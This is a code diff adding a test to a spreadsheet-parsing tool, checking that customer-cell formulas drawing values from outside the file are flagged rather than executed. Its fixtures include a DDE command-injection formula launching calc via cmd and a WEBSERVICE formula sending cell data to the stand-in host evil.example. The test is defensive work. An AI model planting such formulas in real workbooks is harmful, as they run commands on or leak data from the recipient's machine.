@@ -273,3 +273,63 @@ def test_a_notice_numbered_by_a_run_that_could_not_write_it_is_printed_as_its_or
         "penalty-JF202610001-补印1.docx",
         "penalty-JF202610001.docx",
     ]
+
+
+# ---------------------------------------------------------------------------------- formulas read
+def _with_formulas(folder: Path, formulas: dict[str, str], saved: str = "华东精密") -> None:
+    """Our blank filled, the customer's cell holding each of ``formulas`` (name → formula), with
+    ``saved`` as its last result, as Excel stores a link's or a DDE call's value: one workbook
+    each, ``NAME.xlsx``."""
+    import re
+    from xml.sax.saxutils import escape
+
+    from openpyxl import load_workbook
+
+    base = excel_form(folder / "base.xlsx", customer=saved)
+    book = load_workbook(base)
+    [cell] = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == saved]
+    cell.value = "=1"
+    book.save(base)
+    with zipfile.ZipFile(base) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    base.unlink()
+    sheet = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
+    found = re.compile(
+        rf'(<c r="{cell.coordinate}"[^>]*?)(?: t="\w+")?><f>1</f>(?:<v>[^<]*</v>|<v\s*/>)?</c>'
+    )
+    assert found.search(sheet)
+    for name, formula in formulas.items():
+        shown = f"<f>{escape(formula[1:])}</f><v>{saved}</v></c>"
+        xml = found.sub(lambda m, shown=shown: f'{m[1]} t="str">{shown}', sheet)
+        with zipfile.ZipFile(folder / f"{name}.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
+            for part, data in parts.items():
+                archive.writestr(part, xml.encode("utf-8") if part == "xl/worksheets/sheet1.xml" else data)
+
+
+FROM_OUTSIDE = {
+    "dde": "=cmd|' /C calc'!A0",
+    "link": "='[1]客户清单'!B2",
+    "path": "='\\\\fs01\\共享\\[客户.xlsx]Sheet1'!A1",
+    "web": '=WEBSERVICE("http://evil.example/?c="&B5)',
+}
+INSIDE = {"hyperlink": '=HYPERLINK("http://example.com","华东精密")', "pipe-in-text": '="华东|精密"&""'}
+
+
+def test_a_value_fetched_from_outside_the_file_by_its_formula_is_warned_with_the_formula(tmp_path):
+    """A customer cell holding ``=cmd|' /C calc'!A0`` (DDE), a link to another workbook or a
+    WEBSERVICE call was read from the result the file saved without a word: a value the sender's
+    Excel fetches anew on opening (or an attack's bait) passed as the form's own. kesu runs none
+    of it; the value is read and warned, formula named. A formula of the file's own is not."""
+    _with_formulas(tmp_path, {**FROM_OUTSIDE, **INSIDE})
+    docs = {Path(d["source"]).stem: d for d in map(json.loads, kesu("parse", tmp_path).output.splitlines())}
+    assert set(docs) == set(FROM_OUTSIDE) | set(INSIDE)
+    for name, doc in docs.items():
+        assert doc["record"]["customer"] == "华东精密", name
+        warned = [w for w in doc["warnings"] if w["code"] == "formula_from_outside"]
+        if name in FROM_OUTSIDE:
+            assert [w["field"] for w in warned] == ["customer"], name
+            assert "来自文件之外" in warned[0]["message"] and FROM_OUTSIDE[name][1:] in warned[0]["message"]
+        else:
+            assert warned == [], name
+    [dde] = map(json.loads, kesu("parse", tmp_path / "dde.xlsx", "--lang", "en").output.splitlines())
+    assert "comes from outside the file" in dde["warnings"][0]["message"]
